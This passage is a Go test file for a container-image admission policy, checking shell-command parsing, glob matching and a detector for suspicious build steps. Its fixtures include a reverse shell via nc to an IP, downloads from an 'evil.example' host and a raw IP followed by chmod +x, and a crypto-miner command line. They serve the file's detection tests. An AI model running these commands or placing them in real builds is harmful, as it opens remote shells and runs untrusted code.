		"sh -euxc echo hi":                   "echo hi",
		"/bin/sh script.sh":                  "/bin/sh script.sh",
		"cmd /S /C curl.exe -o x http://h/x": "curl.exe -o x http://h/x",
		"curl -O http://203.0.113.9/x":       "curl -O http://203.0.113.9/x",
	} {
		if got := stripShell(in); got != want {
			t.Errorf("stripShell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestExpandParam(t *testing.T) {
	vars := map[string][]string{"V": {"3.12.1rc2"}, "A": {"x86_64-linux-gnu"}, "E": {""}, "P": {"/usr/bin:/bin"}, "M": {"a", "b"}}
	look := func(n string) ([]string, bool) { v, ok := vars[n]; return v, ok }
	for expr, want := range map[string]string{
		"V":            "3.12.1rc2",
		"V%%[a-z]*":    "3.12.1",
		"A##*-":        "gnu",
		"A%%-*":        "x86_64",
		"A#*-":         "linux-gnu",
		"A%-*":         "x86_64-linux",
		"E:-def":       "def",
		"E-def":        "",
		"U:-$V":        "3.12.1rc2",
		"E:+alt":       "",
		"V:+--yjit":    "--yjit",
		"U:+x":         "",
		"#V":           "9",
		"P//:/ ":       "/usr/bin /bin",
		"A/linux/musl": "x86_64-musl-gnu",
		"V^^":          "3.12.1RC2",
		"M":            "a b",
		"U":            "${U}",
		"1":            "${1}",
	} {
		got := strings.Join(expandParam(nil, expr, look, 0), " ")
		if got != want {
			t.Errorf("expandParam(%q) = %q, want %q", expr, got, want)
		}
	}
}

func TestShMatch(t *testing.T) {
	for _, tt := range []struct {
		pat, s string
		want   bool
	}{
		{"*", "", true}, {"*-", "a-", true}, {"[a-z]*", "rc1", true}, {"[!a-z]*", "rc1", false},
		{"?.?", "1.2", true}, {"a\\*", "a*", true}, {"a\\*", "ab", false}, {"[[:digit:]]*", "9x", true},
		{"*x*y*z", strings.Repeat("x", 100) + "y", false}, {"[", "[", true}, {"[]]", "]", true},
	} {
		if got := shMatch(tt.pat, tt.s); got != tt.want {
			t.Errorf("shMatch(%q, %q) = %v, want %v", tt.pat, tt.s, got, tt.want)
		}
	}
}

func TestDecideBuildSteps(t *testing.T) {
	aged := now.Add(-30 * 24 * time.Hour)
	verified := `curl -fsSLo app.tgz https://evil.example/app.tgz && echo "0123 *app.tgz" | sha256sum -c -`
	platform := func(name, digest string, cfg RunConfig, steps ...step) Platform {
		_, h := histories(img(steps...))
		for i := range h {
			h[i].Created = aged
		}
		return Platform{Platform: name, Digest: "sha256:m" + digest, ConfigDigest: "sha256:c" + digest, Created: aged, History: h, Config: cfg}
	}
	tests := []struct {
		name        string
		spec        BuildSteps
		platforms   []Platform
		wantOutcome Outcome
		wantEv      string // evidence of the first suspicious-build-step finding, as "key=value" pairs
	}{
		{name: "verified download denies by default", platforms: []Platform{platform("", "1", RunConfig{}, step{"RUN", verified})},
			wantOutcome: OutcomeDeny, wantEv: "kinds=[untrusted-download] stepIndex=2 verified=[sha256sum]"},
		{name: "verified download warns when configured", spec: BuildSteps{VerifiedDownloads: ActionWarn},
			platforms:   []Platform{platform("", "1", RunConfig{}, step{"RUN", verified})},
			wantOutcome: OutcomeWarn, wantEv: "kinds=[untrusted-download] stepIndex=2 verified=[sha256sum]"},
		{name: "verified next to a reverse shell still denies", spec: BuildSteps{VerifiedDownloads: ActionIgnore},
			platforms:   []Platform{platform("", "1", RunConfig{}, step{"RUN", verified + " && nc -e /bin/sh 198.51.100.7 4444"})},
			wantOutcome: OutcomeDeny},
		{name: "unverified download denies whatever verifiedDownloads says", spec: BuildSteps{VerifiedDownloads: ActionIgnore},
			platforms:   []Platform{platform("", "1", RunConfig{}, step{"RUN", "curl -o /x https://evil.example/x"})},
			wantOutcome: OutcomeDeny},
		{name: "cross-step finding names both steps, on its platform only",
			platforms: []Platform{
				platform("linux/amd64", "1", RunConfig{}, step{"RUN", "true"}, step{"RUN", "true"}),
				platform("linux/arm64", "2", RunConfig{}, step{"RUN", "wget -O /opt/a http://203.0.113.9/a"}, step{"RUN", "chmod +x /opt/a"}),
			},
			wantOutcome: OutcomeDeny, wantEv: "kinds=[raw-ip-download] platforms=[linux/arm64] stepIndex=2"},
		{name: "config run command", platforms: []Platform{platform("", "1", RunConfig{Cmd: []string{"/opt/svc", "-o", "198.51.100.7:3333", "-u", "w"}}, step{"RUN", "true"})},
			wantOutcome: OutcomeDeny, wantEv: "kinds=[crypto-miner] source=config"},
	}
	for _, tt := range tests {
		bs := tt.spec
		p := mustCompile(t, Spec{Registries: Registries{Allow: []string{"ghcr.io/acme/*"}}, BuildSteps: &bs})
		v := Decide(p, pod(Container{Image: "ghcr.io/acme/shop:1", Resolved: &Image{Digest: "sha256:i", Index: len(tt.platforms) > 1, Platforms: tt.platforms}}))
		if v.Outcome != tt.wantOutcome {
			t.Errorf("%s: Decide = %s, want %s (%+v)", tt.name, v.Outcome, tt.wantOutcome, v.Images[0].Findings)
		}
		if tt.wantEv == "" {
			continue
		}
		var got string
		for _, f := range v.Images[0].Findings {
			if f.Rule != RuleSuspiciousBuildStep {
				continue
			}
			var kv []string
			for _, k := range []string{"kinds", "platforms", "source", "stepIndex", "verified"} {
				if x, ok := f.Evidence[k]; ok {
					kv = append(kv, fmt.Sprintf("%s=%v", k, x))
				}
			}
			got = strings.Join(kv, " ")
			if f.Summary == "" || f.Message == "" {
				t.Errorf("%s: finding without summary or message: %+v", tt.name, f)
			}
			break
		}
		if got != tt.wantEv {
			t.Errorf("%s: evidence %q, want %q", tt.name, got, tt.wantEv)
		}
	}
	// The chmod step's finding names the step that fetched the file.
	p := mustCompile(t, Spec{Registries: Registries{Allow: []string{"ghcr.io/acme/*"}}})
	v := Decide(p, pod(Container{Image: "ghcr.io/acme/shop:1", Resolved: &Image{Digest: "sha256:i", Platforms: []Platform{
		platform("", "3", RunConfig{}, step{"RUN", "wget -O /opt/a http://203.0.113.9/a"}, step{"RUN", "chmod +x /opt/a"})}}}))
	var found bool
	for _, f := range v.Images[0].Findings {
		if f.Evidence["stepIndex"] == 3 {
			found = true
			if fmt.Sprint(f.Evidence["fetchedIn"]) != "[2]" || !strings.Contains(f.Message, "build step 3 makes /opt/a, fetched from 203.0.113.9 in step 2, executable") {
				t.Errorf("chmod step finding = %q, evidence %v", f.Message, f.Evidence)
			}
			if f.Summary != "step 3: chmod-fetched from 203.0.113.9" {
				t.Errorf("summary = %q", f.Summary)
			}
		}
	}
	if !found {
		t.Errorf("no finding for the chmod step: %+v", v.Images[0].Findings)
	}
	if _, err := Compile(Spec{BuildSteps: &BuildSteps{VerifiedDownloads: "maybe"}}); err == nil || !strings.Contains(err.Error(), "buildSteps.verifiedDownloads") {
		t.Errorf("Compile(verifiedDownloads: maybe) = %v, want a field error", err)
	}
}

// TestStarterList: the trustedSources starter list docs/policy.md ships
// compiles, trusts the official images' upstreams, and does not trust
// github.com, or the miners on it, whole.
func TestStarterList(t *testing.T) {
	doc, err := os.ReadFile("../docs/policy.md")
	if err != nil {
		t.Fatal(err)
	}
	start := strings.Index(string(doc), "```yaml\ntrustedSources:\n# Distribution mirrors")
	if start < 0 {
		t.Fatal("docs/policy.md: no starter list")
	}
	block := string(doc)[start+len("```yaml\n"):]
	block = block[:strings.Index(block, "```")]
	var spec Spec
	if err := yaml.Unmarshal([]byte(block), &spec); err != nil {
		t.Fatal(err)
	}
	s, err := ParseSources(spec.TrustedSources)
	if err != nil || len(spec.TrustedSources) < 30 {
		t.Fatalf("starter list (%d entries): %v", len(spec.TrustedSources), err)
	}
	for _, u := range []string{"https://github.com/tianon/gosu/releases/download/1.17/gosu-amd64", "https://deb.debian.org/debian/x.deb",
		"https://raw.githubusercontent.com/docker/docker/65cf/hack/dind", "https://www.python.org/ftp/python/3.13.2/Python-3.13.2.tar.xz"} {
		if h, _ := urlHost(u); !s.TrustedURL(h, urlPath(u)) {
			t.Errorf("starter list does not trust %s", u)
		}
	}
	for _, u := range []string{"https://github.com/xmrig/xmrig/releases/download/v6/xmrig.tgz", "https://raw.githubusercontent.com/someone/x/main/i.sh",
		"https://objects.githubusercontent.com/x", "http://203.0.113.9/x"} {
		if h, _ := urlHost(u); s.TrustedURL(h, urlPath(u)) {
			t.Errorf("starter list trusts %s", u)
		}
	}
}
